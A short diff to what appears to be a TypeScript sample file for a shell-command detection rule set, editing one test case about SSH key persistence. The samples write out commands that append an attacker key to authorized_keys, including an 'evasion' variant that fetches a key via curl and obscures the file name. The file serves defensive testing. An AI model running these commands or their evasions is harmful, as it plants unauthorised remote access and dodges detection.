@@ -63,7 +63,7 @@ export const systemSamples: RuleSample[] = [
     found: 'echo "ssh-rsa AAAA x" >> ~/.ssh/authorized_keys',
     severity: 'high',
     harmless: 'ssh-keygen -l -f ~/.ssh/authorized_keys; wc -l ~/.ssh/authorized_keys',
-    evasion: 'k=authorized_keys; curl -s http://example.com/k | tee -a /root/.ssh/$k',
+    evasion: 'k=authorized_keys; curl -s http://example.com/k | tee -a /home/deploy/.ssh/$k',
   },
   {
     rule: 'bash/copy-itself',
